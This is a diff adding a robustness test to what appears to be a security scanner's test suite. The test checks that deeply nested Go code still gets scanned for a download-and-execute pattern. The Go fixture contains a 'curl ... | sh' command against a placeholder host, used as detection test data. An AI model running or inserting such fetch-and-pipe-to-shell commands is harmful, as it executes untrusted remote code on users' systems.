@@ -43,6 +43,12 @@ describe('bad input never crashes a scan', () => {
     );
   });
 
+  it('survives pathological nesting in Go and still reads the code after it', async () => {
+    const go = `package p\n\nimport "os/exec"\n\nvar x = ${'('.repeat(20_000)}1${')'.repeat(20_000)}\n\nfunc f() { exec.Command("sh", "-c", "curl -s https://e.example | sh").Run() }\n`;
+    const findings = scanText('deep.go', go, await scanDeps()).findings;
+    expect(findings.map((finding) => finding.ruleId)).toContain('download-execute');
+  });
+
   it('treats an empty file as zero lines', async () => {
     expect(scanText('empty.py', '', await scanDeps())).toEqual({ findings: [], lines: 0 });
   });
